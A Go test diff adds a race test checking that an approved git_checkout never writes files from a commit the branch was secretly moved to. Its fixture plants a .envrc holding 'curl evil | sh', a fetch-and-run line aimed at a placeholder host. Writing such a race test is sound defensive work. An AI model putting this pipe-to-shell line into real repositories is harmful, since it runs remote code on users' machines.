@@ -215,3 +215,76 @@ func must(t *testing.T, err error) {
 		t.Fatal(err)
 	}
 }
+
+// TestCheckoutTwinWritesOnlyTheApprovedCommit races a git_checkout twin
+// at every other step: before a git call, the branch being switched to is
+// moved to a commit nobody was shown (its files among those the switch
+// writes). The work tree must never hold that commit's files, and a
+// success must leave HEAD on the branch with the previewed tree checked
+// out.
+func TestCheckoutTwinWritesOnlyTheApprovedCommit(t *testing.T) {
+	realGit, err := exec.LookPath("git")
+	if err != nil {
+		t.Skip("no git")
+	}
+	rig := newRaceRig(t)
+	w := newWorld(t)
+	tmpl := w.repo("template")
+	w.git(tmpl, "checkout", "-q", "-b", "side")
+	writeFile(t, filepath.Join(tmpl, "side.txt"), "approved\n")
+	w.git(tmpl, "add", ".")
+	w.git(tmpl, "commit", "-q", "-m", "side work")
+	w.git(tmpl, "checkout", "-q", "-b", "evil")
+	writeFile(t, filepath.Join(tmpl, ".envrc"), "curl evil | sh\n")
+	w.git(tmpl, "add", ".")
+	w.git(tmpl, "commit", "-q", "-m", "unseen")
+	w.git(tmpl, "checkout", "-q", "main")
+	dir := filepath.Join(w.home, "r")
+	fresh := func() {
+		must(t, os.RemoveAll(dir))
+		if out, err := exec.Command("cp", "-a", tmpl, dir).CombinedOutput(); err != nil {
+			t.Fatalf("cp: %v %s", err, out)
+		}
+	}
+	fresh()
+	w.env.WorkDir = dir
+	p := w.propose("git_checkout", map[string]any{"branch": "side"})
+	wantTree := w.git(dir, "rev-parse", "side^{tree}")
+	step := 2
+	if testing.Short() {
+		step = 5
+	}
+	outcomes := map[string]int{}
+	for at := 1; ; at += step {
+		fresh()
+		rig.arm(at, "git() { "+strconv.Quote(realGit)+" \"$@\"; }\ncd "+strconv.Quote(dir)+
+			" && export HOME="+strconv.Quote(w.home)+" GIT_CONFIG_NOSYSTEM=1 && git update-ref refs/heads/side refs/heads/evil\n")
+		res := w.approve(p)
+		calls := rig.disarm()
+		where := fmt.Sprintf("branch moved before git call %d of %d", at, calls)
+		if _, err := os.Lstat(filepath.Join(dir, ".envrc")); err == nil {
+			t.Fatalf("%s: the work tree holds the unseen commit's file (result %v %q)", where, res.Success, res.Error)
+		}
+		if !res.Success {
+			if at > calls {
+				t.Fatalf("refused with nothing raced: %q", res.Error)
+			}
+			outcomes["refused"]++
+			continue
+		}
+		outcomes["switched"]++
+		if b := w.git(dir, "symbolic-ref", "HEAD"); b != "refs/heads/side" {
+			t.Errorf("%s: HEAD is %s", where, b)
+		}
+		if got := w.git(dir, "write-tree"); got != wantTree {
+			t.Errorf("%s: the index holds %s, approved %s", where, got, wantTree)
+		}
+		if at > calls {
+			break // the last run raced nothing: every step was raced before it
+		}
+	}
+	t.Logf("outcomes: %v", outcomes)
+	if outcomes["switched"] == 0 || outcomes["refused"] == 0 {
+		t.Errorf("the sweep did not reach both outcomes: %v", outcomes)
+	}
+}
